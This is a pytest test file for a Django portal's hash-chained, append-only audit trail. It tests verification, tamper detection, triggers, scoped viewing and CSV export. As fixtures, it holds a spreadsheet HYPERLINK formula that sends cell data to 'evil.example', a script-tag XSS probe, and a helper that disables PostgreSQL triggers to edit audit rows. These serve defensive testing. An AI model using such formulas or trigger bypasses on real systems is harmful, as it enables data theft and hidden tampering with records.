"""The tamper-evident audit trail (issue [hardening], item 1).

Every event is linked to the one before it by a SHA-256 hash chain (``audits.chain``);
``verify_audit_trail`` walks it and names the first event that was edited, deleted or
moved; on PostgreSQL a trigger refuses UPDATE and DELETE outright; appends from two
transactions at once never fork the chain; a daily task keeps a checkpoint and mails the
superintendent when the chain is broken; the superintendent's office reads the trail
(filtered, paginated, exported to CSV without spreadsheet formulas) within its scope.
"""

import csv
import io
import threading
from datetime import timedelta

import pytest
from django.core.management import CommandError, call_command
from django.db import DatabaseError, connection, transaction
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from audits import chain, tasks
from audits.models import AppendOnly, AuditEvent, ChainCheckpoint, ChainHead
from audits.services import record, record_many
from notifications.models import OutboxMessage

from .a11y import assert_accessible
from .factories import DelegationFactory, OrgUnitFactory, UserFactory
from .queries import assert_constant_queries

POSTGRESQL = connection.vendor == "postgresql"
trigger_on_postgresql = pytest.mark.skipif(
    not POSTGRESQL, reason="The append-only trigger is PostgreSQL's (Django's own guards are tested on both backends)")
racing_on_postgresql = pytest.mark.skipif(
    not POSTGRESQL, reason="SQLite serialises writers already: an IMMEDIATE transaction takes the write lock at BEGIN")
TRAIL = reverse("audits:trail")


def append(n, *, actor=None, target=None, org_unit=None, verb="test.changed", **fields):
    with transaction.atomic():
        return [record(actor=actor, verb=verb, target=target, org_unit=org_unit, after={"n": i}, **fields)
                for i in range(n)]


def tamper(sql, params=()):
    """Change the database behind the portal's back, as someone at a psql prompt could: on
    PostgreSQL as a superuser switching the append-only triggers off first."""
    with connection.cursor() as cursor:
        if POSTGRESQL:
            cursor.execute("SET LOCAL session_replication_role = replica")
        cursor.execute(sql, params)
        if POSTGRESQL:
            cursor.execute("SET LOCAL session_replication_role = DEFAULT")


def verify_fails() -> str:
    with pytest.raises(CommandError) as failure:
        call_command("verify_audit_trail")
    assert failure.value.returncode == 1  # manage.py exits 1
    return str(failure.value)


# --- the chain ---------------------------------------------------------------------------


def test_each_event_is_linked_to_the_one_before(district):
    events = append(3, actor=district.designee, target=district.north, org_unit=district.north, reason="Because")
    previous = chain.GENESIS
    for expected, event in enumerate(AuditEvent.objects.order_by("sequence"), start=1):
        assert event.sequence == expected
        assert event.hash == chain.digest(chain.values_of(event), previous)
        previous = event.hash
    assert [event.hash for event in events] == list(AuditEvent.objects.order_by("sequence").values_list("hash",
                                                                                                         flat=True))
    head = ChainHead.objects.get()
    assert (head.sequence, head.hash) == (3, previous)


def test_the_hash_covers_every_meaningful_field(district):
    event = append(1, actor=district.designee, target=district.north, org_unit=district.north)[0]
    values = chain.values_of(event)
    for position, name in enumerate(chain.COLUMNS):
        changed = list(values)
        changed[position] = {"other": 1} if name in ("before", "after") else (
            event.at + timedelta(microseconds=1) if name == "at" else f"{values[position]}x")
        assert chain.digest(tuple(changed), chain.GENESIS) != event.hash, name
    assert chain.digest(values, "f" * 64) != event.hash  # and the previous event's hash


def test_values_come_back_from_the_database_as_they_were_hashed(district):
    """JSON, addresses and instants survive the round trip (jsonb reorders keys and
    rewrites numbers; inet and timestamps have their own forms)."""
    from mps_social import request_context

    token = request_context._current.set(request_context.RequestContext("req-12345678", "2001:DB8:0:0::1"))
    try:
        with transaction.atomic():
            record(actor=None, verb="test.shapes", target=district.north,
                   before={"z": 1.0, "a": [1, (2, 3)], "big": 1e16, "tiny": 1e-7, "text": "é ✓ \"quoted\""},
                   after={"nested": {"b": None, "a": True}, 3: "int key"}, at=timezone.now().replace(microsecond=0))
    finally:
        request_context._current.reset(token)
    event = AuditEvent.objects.get(verb="test.shapes")
    assert event.ip == "2001:db8::1"
    assert chain.verify().ok


def test_a_forwarded_address_that_is_not_one_is_left_out(district):
    from mps_social import request_context

    token = request_context._current.set(request_context.RequestContext("req-12345678", "not-an-address"))
    try:
        event = append(1, target=district.north)[0]
    finally:
        request_context._current.reset(token)
    assert event.ip is None and chain.verify().ok


def test_record_many_chains_in_a_constant_number_of_queries(district):
    people = [UserFactory(org_unit=district.north) for _ in range(3)]

    def bulk(n):
        with CaptureQueriesContext(connection) as queries, transaction.atomic():
            assert record_many(actor=district.superintendent, verb="person.added_from_roster",
                               items=[(people[i % 3], None, {"n": i}) for i in range(n)]) == n
        return len(queries.captured_queries)

    assert bulk(5) == bulk(1500)  # lock the head, insert, move the head
    assert AuditEvent.objects.count() == 1505
    verdict = chain.verify()
    assert verdict.ok and verdict.count == 1505
    with CaptureQueriesContext(connection) as queries, transaction.atomic():
        record_many(actor=None, verb="nothing", items=[])
    assert not [q for q in queries.captured_queries if "audits_" in q["sql"]]


def test_record_many_stores_each_value_as_the_orm_would(district):
    """``record_many`` inserts in plain SQL (``chain._insert``): what comes back is what a
    single ``record`` stores for the same event, JSON, text and foreign keys alike."""
    after = {"name": "Zoë “Stars”", "nested": {"list": [1, 2.5, None], "flag": True}}
    with transaction.atomic():
        record(actor=district.superintendent, verb="test.one", target=district.north, after=after, reason="Één")
        record_many(actor=district.superintendent, verb="test.one", items=[(district.north, None, after)] * 2,
                    reason="Één")
    fields = ("actor_id", "actor_label", "verb", "target_type", "target_id", "target_label", "org_unit_id",
              "before", "after", "reason", "request_id", "ip")
    single, *many = AuditEvent.objects.order_by("sequence").values_list(*fields)
    assert many == [single, single] and single[fields.index("after")] == after
    assert chain.verify().ok


def test_record_follows_a_record_many(district):
    with transaction.atomic():
        record_many(actor=None, verb="test.bulk", items=[(district.north, None, None)] * 4)
        record(actor=None, verb="test.one", target=district.south)
    assert list(AuditEvent.objects.order_by("sequence").values_list("sequence", flat=True)) == [1, 2, 3, 4, 5]
    assert chain.verify().ok


def test_an_empty_trail_starts_its_chain_again_after_a_flush(district):
    """Tests empty tables with TRUNCATE, head included: the first append recreates it."""
    with connection.cursor() as cursor:
        cursor.execute("DELETE FROM audits_chainhead" if not POSTGRESQL else
                       "TRUNCATE audits_chainhead")
    event = append(1, target=district.north)[0]
    assert event.sequence == 1 and ChainHead.objects.get().sequence == 1 and chain.verify().ok


def test_the_demo_dates_its_history_without_changing_the_trail(db):
    call_command("seed_demo", verbosity=0)
    submitted = AuditEvent.objects.filter(verb="concern.submitted").order_by("at").first()
    assert submitted.at < timezone.now() - timedelta(days=11)
    verdict = chain.verify()
    assert verdict.ok and verdict.count == AuditEvent.objects.count() > 10


# --- verify_audit_trail ------------------------------------------------------------------


def test_the_command_prints_the_count_and_head_of_an_intact_chain(district):
    append(3, target=district.north)
    out = io.StringIO()
    call_command("verify_audit_trail", stdout=out)
    head = ChainHead.objects.get()
    assert out.getvalue().strip() == f"Audit trail intact: 3 events, head #3 sha256:{head.hash}"


def test_an_empty_trail_is_intact(db):
    assert chain.verify().ok and chain.verify().count == 0


def test_an_edited_event_is_named(district):
    append(4, target=district.north)
    tamper("UPDATE audits_auditevent SET reason = %s WHERE sequence = 2", ["Nothing to see here"])
    message = verify_fails()
    assert "event #2 " in message and "does not match its hash" in message and "1 events before it" in message


def test_an_edited_before_or_after_is_named(district):
    append(3, target=district.north)
    tamper("UPDATE audits_auditevent SET after = %s WHERE sequence = 3", ['{"n": 99}'])
    assert "event #3 " in verify_fails()


def test_a_deleted_event_is_a_gap(district):
    append(4, target=district.north)
    tamper("DELETE FROM audits_auditevent WHERE sequence = 2")
    message = verify_fails()
    assert "event #2 is missing" in message and "#1 to event #3" in message


def test_deleting_the_first_event_is_detected(district):
    append(3, target=district.north)
    tamper("DELETE FROM audits_auditevent WHERE sequence = 1")
    assert "event #1 is missing" in verify_fails()


def test_deleting_the_last_events_is_detected_by_the_head(district):
    append(4, target=district.north)
    tamper("DELETE FROM audits_auditevent WHERE sequence >= 3")
    assert "events #3 to #4 are missing" in verify_fails()


def test_a_reordered_event_is_named(district):
    append(4, target=district.north)
    tamper("UPDATE audits_auditevent SET sequence = 1000 WHERE sequence = 2")
    tamper("UPDATE audits_auditevent SET sequence = 2 WHERE sequence = 3")
    tamper("UPDATE audits_auditevent SET sequence = 3 WHERE sequence = 1000")
    message = verify_fails()
    assert "event #2 " in message and "moved" in message


def test_a_rewritten_chain_is_caught_by_the_last_checkpoint(district):
    """Someone who edits an event and recomputes every hash after it (and the head) makes
    a chain that holds together; an intact checkpoint taken before still catches it."""
    append(4, target=district.north)
    tasks.verify_trail()
    tamper("UPDATE audits_auditevent SET reason = %s WHERE sequence = 2", ["Rewritten"])
    previous = AuditEvent.objects.get(sequence=1).hash
    for event in AuditEvent.objects.filter(sequence__gte=2).order_by("sequence"):
        previous = chain.digest(chain.values_of(event), previous)
        tamper("UPDATE audits_auditevent SET hash = %s WHERE id = %s", [previous, event.pk])
    tamper("UPDATE audits_chainhead SET hash = %s", [previous])  # the head only moves forward, but tamper() is root
    message = verify_fails()
    assert "event #4 " in message and "checkpoint found intact" in message


# --- append-only ---------------------------------------------------------------------------


def test_django_refuses_to_change_or_delete_an_event(district):
    event = append(1, target=district.north)[0]
    event.reason = "Changed"
    with pytest.raises(AppendOnly):
        event.save()
    with pytest.raises(AppendOnly):
        event.delete()
    with pytest.raises(AppendOnly):
        AuditEvent.objects.filter(pk=event.pk).update(reason="Changed")
    with pytest.raises(AppendOnly):
        AuditEvent.objects.filter(pk=event.pk).delete()
    with pytest.raises(AppendOnly):
        AuditEvent.objects.bulk_update([event], ["reason"])
    with pytest.raises(AppendOnly):  # outside record(): no place in the chain
        AuditEvent.objects.create(actor_label="x", verb="x", target_type="x", target_id="1", target_label="x")
    assert AuditEvent.objects.get().reason == "" and chain.verify().ok


@trigger_on_postgresql
@pytest.mark.parametrize("sql", ["UPDATE audits_auditevent SET reason = 'Changed'", "DELETE FROM audits_auditevent",
                                 "UPDATE audits_chaincheckpoint SET ok = true", "DELETE FROM audits_chaincheckpoint",
                                 "DELETE FROM audits_chainhead", "UPDATE audits_chainhead SET sequence = 0",
                                 "UPDATE audits_chainhead SET hash = 'x'"])
def test_postgresql_refuses_update_and_delete(district, sql):
    append(2, target=district.north)
    tasks.verify_trail()
    with pytest.raises(DatabaseError, match="append-only|only moves forward"), transaction.atomic():
        with connection.cursor() as cursor:
            cursor.execute(sql)
    assert chain.verify().ok and AuditEvent.objects.filter(reason="Changed").count() == 0


@racing_on_postgresql
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_two_transactions_appending_at_once_never_fork_the_chain():
    unit = OrgUnitFactory(code="RACE", name="Race School", kind="district", parent=None)
    per_thread, start, failures = 40, threading.Barrier(2), []

    def appender(name):
        try:
            start.wait()
            for i in range(per_thread):
                with transaction.atomic():
                    record(actor=None, verb=f"test.{name}", target=unit, after={"i": i})
        except Exception as error:  # pragma: no cover - reported below
            failures.append(error)
        finally:
            connection.close()

    threads = [threading.Thread(target=appender, args=(name,)) for name in ("left", "right")]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert not failures
    sequences = list(AuditEvent.objects.order_by("sequence").values_list("sequence", flat=True))
    assert sequences == list(range(1, 2 * per_thread + 1))
    verbs = list(AuditEvent.objects.order_by("sequence").values_list("verb", flat=True))
    assert verbs.count("test.left") == verbs.count("test.right") == per_thread
    verdict = chain.verify()
    assert verdict.ok and verdict.count == 2 * per_thread


@racing_on_postgresql
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_a_waiting_append_extends_the_event_committed_before_it():
    """The second transaction waits for the head and then links to the first one's event."""
    unit = OrgUnitFactory(code="WAIT", name="Wait School", kind="district", parent=None)
    holding, done = threading.Event(), threading.Event()

    def first():
        try:
            with transaction.atomic():
                record(actor=None, verb="test.first", target=unit)
                holding.set()
                done.wait(5)  # holds the head while the other one tries
        finally:
            connection.close()

    thread = threading.Thread(target=first)
    thread.start()
    holding.wait(5)
    timer = threading.Timer(0.3, done.set)
    timer.start()
    with transaction.atomic():
        second = record(actor=None, verb="test.second", target=unit)
    thread.join()
    first_event = AuditEvent.objects.get(verb="test.first")
    assert (first_event.sequence, second.sequence) == (1, 2)
    assert second.hash == chain.digest(chain.values_of(second), first_event.hash)


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_the_migrations_chain_the_events_recorded_before_the_chain():
    from django.db.migrations.executor import MigrationExecutor

    before_chain = [("audits", "0004_chain_fields")]
    executor = MigrationExecutor(connection)
    latest = executor.loader.graph.leaf_nodes()  # every app's: the compliance app moved tables out of audits
    executor.migrate(before_chain)
    unit = OrgUnitFactory(code="OLD", name="Old School", kind="district", parent=None)
    OldEvent = executor.loader.project_state(before_chain).apps.get_model("audits", "AuditEvent")
    now = timezone.now()
    OldEvent.objects.bulk_create([OldEvent(at=now - timedelta(days=i), actor_label="system", verb="old.event",
                                           target_type="people.orgunit", target_id=str(unit.pk),
                                           target_label=str(unit), org_unit_id=unit.pk, after={"i": i, "f": 2.0})
                                  for i in range(5)])
    executor = MigrationExecutor(connection)
    executor.loader.build_graph()
    executor.migrate(latest)
    assert list(AuditEvent.objects.order_by("sequence").values_list("after__i", flat=True)) == [0, 1, 2, 3, 4]
    assert chain.verify().ok and ChainHead.objects.get().sequence == 5
    with transaction.atomic():
        assert record(actor=None, verb="new.event", target=unit).sequence == 6
    if POSTGRESQL:  # and the triggers are back
        with pytest.raises(DatabaseError), transaction.atomic(), connection.cursor() as cursor:
            cursor.execute("DELETE FROM audits_auditevent")


# --- the daily task ----------------------------------------------------------------------


def test_the_daily_task_records_the_head(district):
    append(3, target=district.north)
    point = ChainCheckpoint.objects.get(pk=tasks.verify_trail())
    head = ChainHead.objects.get()
    assert (point.ok, point.sequence, point.hash, point.first_bad) == (True, 3, head.hash, None)
    assert not OutboxMessage.objects.filter(template="audit_trail_broken").exists()


def test_the_daily_task_mails_the_superintendent_once_when_broken(district):
    append(4, target=district.north)
    tamper("DELETE FROM audits_auditevent WHERE sequence = 3")
    point = ChainCheckpoint.objects.get(pk=tasks.verify_trail())
    assert (point.ok, point.first_bad, point.sequence) == (False, 3, 2)
    assert "event #3 is missing" in point.problem
    tasks.verify_trail()  # beat twice, or again the same day: one mail
    mail = OutboxMessage.objects.get(template="audit_trail_broken")
    assert mail.to == district.superintendent.email
    assert "#3" in mail.subject and "event #3 is missing" in mail.body_text and "/compliance/trail/" in mail.body_text
    assert ChainCheckpoint.objects.count() == 2


def test_the_daily_task_is_scheduled(db):
    from django_celery_beat.models import PeriodicTask

    assert PeriodicTask.objects.get(task="audits.verify_trail").crontab.hour == "3"


# --- the viewer --------------------------------------------------------------------------


@pytest.fixture
def trail(district):
    """Events of several kinds, people, places and days."""
    now = timezone.now()
    with transaction.atomic():
        record(actor=district.teacher, verb="credentials.revealed", target=district.north, org_unit=district.north,
               reason="Posting the concert", at=now - timedelta(days=10))
        record(actor=district.principal, verb="credentials.escrowed", target=district.north, org_unit=district.north,
               after={"version": 2})
        record(actor=district.outsider, verb="credentials.revealed", target=district.south, org_unit=district.south,
               reason="South's game")
        record(actor=None, verb="person.added_from_roster", target=district.coach, after={"employee_id": "T1"})
    return now


def listed(response):
    return [event.verb + "@" + (event.org_unit.code if event.org_unit else "-")
            for event in response.context["page"].object_list]


def test_the_superintendent_reads_everything_newest_first(trail, client_for):
    response = client_for("superintendent").get(TRAIL)
    assert listed(response) == ["person.added_from_roster@-", "credentials.revealed@SOUTH",
                                "credentials.escrowed@NORTH", "credentials.revealed@NORTH"]
    assert b"Posting the concert" in response.content and b"Version: 2" in response.content
    assert_accessible(response.content.decode(), TRAIL)


def test_a_row_escapes_what_it_shows_and_lists_each_change(district, client_for):
    """Every value of a row is escaped, the reason keeps its line breaks, each field shows
    its value before and after, the action is in words and the object by its kind."""
    from django.test.html import parse_html

    with transaction.atomic():
        record(actor=district.teacher, verb="test.<changed>", target=district.north, org_unit=district.north,
               reason="<b>First</b>\nthen", before={"name": "<i>Old</i>", "gone": 1, "rotation_due": False},
               after={"name": "New", "new": [1], "rotation_due": True})
        record(actor=district.teacher, verb="credentials.revealed", target=district.north, org_unit=district.north)
    html = client_for("superintendent").get(TRAIL).content.decode()
    page = parse_html(html)
    # A verb the portal does not record keeps its code, escaped; a known one reads in words.
    assert parse_html("<td>test.&lt;changed&gt;</td>") in page and parse_html("<td>Credentials revealed</td>") in page
    assert "credentials.revealed" not in html[html.index("<tbody>"):]
    assert parse_html("<p>&lt;b&gt;First&lt;/b&gt;<br>then</p>") in page
    assert f"Org unit #{district.north.pk} · {district.north.name}" in html
    # Each change once, in the order the database keeps the keys (PostgreSQL's jsonb sorts
    # them), each field in words (audits.verbs.FIELDS) and a flag as yes or no.
    changes = parse_html(html.split('<ul class="changes">', 1)[1].split("</ul>", 1)[0])
    assert sorted(changes.children, key=str) == sorted(parse_html(
        "<li>Gone: 1 → (removed)</li><li>Name: &lt;i&gt;Old&lt;/i&gt; → New</li>"
        "<li>New: [1]</li><li>Password change due: no → yes</li>").children, key=str)
    assert parse_html(f'{district.teacher.full_name}<br><span class="muted">teacher@example.org</span>') in page
    assert "<b>First" not in html and "<i>Old" not in html
    assert_accessible(html, TRAIL)


def test_a_reason_keeps_every_kind_of_line_break(district, client_for):
    """The reason's line breaks are written as Django's ``linebreaksbr`` writes them,
    whichever the browser sent (``\\r\\n``, ``\\r`` or ``\\n``), after escaping."""
    from django.template.defaultfilters import linebreaksbr

    reason = "<one>\r\ntwo\rthree\nfour & five"
    with transaction.atomic():
        record(actor=district.teacher, verb="test.reason", target=district.north, org_unit=district.north,
               reason=reason)
    html = client_for("superintendent").get(TRAIL).content.decode()
    assert f"<p>{linebreaksbr(reason)}</p>" in html
    assert "<p>&lt;one&gt;<br>two<br>three<br>four &amp; five</p>" in html


def test_the_filters_show_what_was_asked_escaped_and_labelled(trail, client_for):
    """The filter form's inputs keep what was asked, escaped; each has its label, its help
    text tied to it, and an error marks its field invalid and is tied to it too. The
    chosen kind of object and the chosen action stay chosen."""
    query = ('actor=%22%3E%3Cscript%3Ex%3C/script%3E&target_type=people.user&since=someday'
             '&verb=credentials.revealed')
    html = client_for("superintendent").get(f"{TRAIL}?{query}").content.decode()
    actor = html[html.index('<input type="text" name="actor"'):]
    actor = actor[:actor.index(">") + 1]
    assert 'value="&quot;&gt;&lt;script&gt;x&lt;/script&gt;"' in actor
    assert 'aria-describedby="id_actor_helptext"' in actor
    assert '<label for="id_actor">Who (email)</label>' in html and 'id="id_actor_helptext"' in html
    assert '<option value="people.user" selected>User (people.user)</option>' in html
    assert '<option value="credentials.revealed" selected>Credentials revealed</option>' in html
    assert html.count(" selected>") == 2
    since = html[html.index('<input type="date" name="since"'):]
    since = since[:since.index(">") + 1]
    assert 'value="someday"' in since and 'aria-invalid="true"' in since
    assert 'aria-describedby="id_since_error"' in since and 'id="id_since_error"' in html
    assert "<script>x" not in html
    assert_accessible(html, TRAIL)


def test_the_actions_are_chosen_by_their_words_in_topics(trail, client_for):
    """No code to type: the action is a choice of the words ``audits.verbs`` gives each
    verb, grouped by topic, each topic first offering all of its actions."""
    html = client_for("superintendent").get(TRAIL).content.decode()
    select = html[html.index('<select name="verb"'):]
    select = select[:select.index("</select>")]
    assert '<optgroup label="Credentials">' in select
    assert '<option value="credentials">Anything about credentials</option>' in select
    assert '<option value="application.submitted">Application sent</option>' in select
    assert '<option value="" selected>Anything</option>' in select


def test_each_instant_shows_in_the_districts_time_zone(district, client_for):
    """The trail's days and times are the district's (``TIME_ZONE``), either side of a
    change of daylight saving time, as Django's ``date`` and ``time`` filters write them."""
    from datetime import UTC, datetime

    from django.test.html import parse_html

    with transaction.atomic():
        for at in (datetime(2026, 3, 8, 7, 59, tzinfo=UTC), datetime(2026, 3, 8, 8, 1, tzinfo=UTC)):
            record(actor=None, verb="audit.started", target=district.north, at=at)
    page = parse_html(client_for("superintendent").get(TRAIL).content.decode())
    assert parse_html('<time datetime="2026-03-08T01:59:00-06:00"><span class="reference">Mar 8, 2026</span> '
                      "01:59</time>") in page
    assert parse_html('<time datetime="2026-03-08T03:01:00-05:00"><span class="reference">Mar 8, 2026</span> '
                      "03:01</time>") in page


@pytest.mark.parametrize("query, expected", [
    ("actor=TEACHER@example.org", ["credentials.revealed@NORTH"]),
    ("actor=system", ["person.added_from_roster@-"]),
    ("verb=credentials.revealed", ["credentials.revealed@SOUTH", "credentials.revealed@NORTH"]),
    ("verb=credentials", ["credentials.revealed@SOUTH", "credentials.escrowed@NORTH", "credentials.revealed@NORTH"]),
    ("verb=people", ["person.added_from_roster@-"]),
    ("verb=credentials.", []),  # a code typed by hand is no choice: nothing, and says why
    ("verb=nonsense", []),
    ("target_type=people.user", ["person.added_from_roster@-"]),
    ("target_type=people.orgunit&target_id={south}", ["credentials.revealed@SOUTH"]),
    ("until={nine_days_ago}", ["credentials.revealed@NORTH"]),
    ("since={nine_days_ago}&verb=credentials.revealed", ["credentials.revealed@SOUTH"]),
    ("since={today}&until={nine_days_ago}", []),  # backwards: nothing, and says why
    ("target_type=nonsense", []),
])
def test_the_filters(trail, client_for, district, query, expected):
    today = timezone.localdate()
    query = query.format(south=district.south.pk, today=today, nine_days_ago=today - timedelta(days=9))
    response = client_for("superintendent").get(f"{TRAIL}?{query}")
    assert response.status_code == 200 and listed(response) == expected


def test_a_designee_over_one_school_sees_only_that_school(trail, district, client):
    """R-V-D: overseeing compliance over one school shows the trail of that school alone."""
    north_designee = DelegationFactory(scope=district.north, oversee_compliance=True).grantee
    client.force_login(north_designee, backend="django.contrib.auth.backends.ModelBackend")
    response = client.get(TRAIL)
    assert listed(response) == ["credentials.escrowed@NORTH", "credentials.revealed@NORTH"]
    assert listed(client.get(f"{TRAIL}?target_type=people.orgunit&target_id={district.south.pk}")) == []
    rows = list(csv.reader(io.StringIO(b"".join(client.get(f"{TRAIL}?format=csv").streaming_content).decode())))
    assert [row[3] for row in rows[1:]] == ["credentials.escrowed", "credentials.revealed"]


def test_a_designee_without_oversight_reads_no_trail(trail, district, client):
    """Deciding applications over the whole district is no power over the audit trail."""
    decider = DelegationFactory(scope=district.district, decide_applications=True).grantee
    client.force_login(decider, backend="django.contrib.auth.backends.ModelBackend")
    assert client.get(TRAIL).status_code == 403


def test_the_district_designee_sees_every_unit_but_not_the_unitless_events(trail, client_for):
    assert listed(client_for("designee").get(TRAIL)) == ["credentials.revealed@SOUTH", "credentials.escrowed@NORTH",
                                                         "credentials.revealed@NORTH"]


@pytest.mark.parametrize("persona", ["principal", "teacher", "coach", "contractor", "outsider", "admin"])
def test_nobody_else_reads_the_trail(trail, client_for, persona):
    assert client_for(persona).get(TRAIL).status_code == 403
    assert client_for(persona).get(f"{TRAIL}?format=csv").status_code == 403


def test_the_csv_export_has_every_field_and_no_formula(district, client_for):
    district.north.name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    district.north.save()
    with transaction.atomic():
        record(actor=district.teacher, verb="credentials.revealed", target=district.north, org_unit=district.north,
               reason="+1-555-0100 asked", after={"reason_kind": "@mention"})
    response = client_for("superintendent").get(f"{TRAIL}?format=csv")
    assert response["Content-Type"].startswith("text/csv") and response["Cache-Control"] == "no-store"
    header, row = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    fields = dict(zip(header, row))
    assert fields["target"].startswith("'=HYPERLINK") and fields["unit"].startswith("'=HYPERLINK")
    assert fields["reason"] == "'+1-555-0100 asked"
    event = AuditEvent.objects.get()
    assert (fields["sequence"], fields["hash"], fields["actor"]) == ("1", event.hash, "teacher@example.org")
    assert fields["after"] == '{"reason_kind": "@mention"}'
    assert (fields["verb"], fields["action"]) == ("credentials.revealed", "Credentials revealed")


def test_the_csv_export_follows_the_filters(trail, client_for):
    response = client_for("superintendent").get(f"{TRAIL}?verb=credentials.escrowed&format=csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [row[3] for row in rows[1:]] == ["credentials.escrowed"]


def test_the_page_shows_the_last_verification(trail, client_for):
    tasks.verify_trail()
    response = client_for("superintendent").get(TRAIL)
    assert b"Verified intact" in response.content and b"4 events" in response.content
    tamper("DELETE FROM audits_auditevent WHERE sequence = 2")
    tasks.verify_trail()
    html = client_for("superintendent").get(TRAIL + "?verb=nothing").content.decode()
    assert "did not verify" in html and "event #2 is missing" in html
    assert_accessible(html, TRAIL)


def test_pages_keep_the_filters(district, client_for):
    """"Older" and "Newer" on a filtered trail keep the filter (templates/includes/pagination.html)."""
    with transaction.atomic():
        record_many(actor=None, verb="credentials.revealed", items=[(district.north, None, None)] * 30)
        record_many(actor=None, verb="credentials.escrowed", items=[(district.north, None, None)] * 3)
    client = client_for("superintendent")
    response = client.get(f"{TRAIL}?verb=credentials.revealed")
    first = [event.sequence for event in response.context["page"].object_list]
    assert len(first) == 25 and first == sorted(first, reverse=True)
    assert f'href="?verb=credentials.revealed&amp;before={first[-1]}" rel="next"'.encode() in response.content
    assert b'rel="prev"' not in response.content  # the newest page has nothing newer

    older = client.get(f"{TRAIL}?verb=credentials.revealed&before={first[-1]}")
    second = [event.sequence for event in older.context["page"].object_list]
    assert len(second) == 5 and max(second) < min(first)
    assert {event.verb for event in older.context["page"].object_list} == {"credentials.revealed"}
    assert f'href="?verb=credentials.revealed&amp;after={second[0]}" rel="prev"'.encode() in older.content
    assert b'rel="next"' not in older.content

    newer = client.get(f"{TRAIL}?verb=credentials.revealed&after={second[0]}")
    assert [event.sequence for event in newer.context["page"].object_list] == first


def test_a_page_past_either_end_shows_the_newest(district, client_for):
    """Sequence numbers in a hand-edited address that match nothing fall back to the
    newest events rather than an empty page (audits/pages.py)."""
    with transaction.atomic():
        record_many(actor=None, verb="test.many", items=[(district.north, None, None)] * 3)
    client = client_for("superintendent")
    newest = [event.sequence for event in client.get(TRAIL).context["page"].object_list]
    for query in ("?before=0", "?after=999999999", "?before=-4", "?after=x"):
        assert [event.sequence for event in client.get(TRAIL + query).context["page"].object_list] == newest


@pytest.mark.parametrize("persona", ["superintendent", "designee"])
def test_the_viewer_reads_a_constant_number_of_queries(district, client_for, persona):
    def grow(n):
        with transaction.atomic():
            for i in range(n):
                actor = UserFactory(org_unit=district.north if i % 2 else district.south)
                record(actor=actor, verb="test.grown", target=actor, org_unit=actor.org_unit,
                       before={"n": i}, after={"n": i + 1}, reason="Growing")

    assert assert_constant_queries(client_for(persona), TRAIL + "?target_type=people.user", grow, small=5,
                                   large=60) <= 8


def test_the_dashboard_links_to_the_trail(district, client_for):
    assert TRAIL.encode() in client_for("superintendent").get(reverse("compliance:dashboard")).content
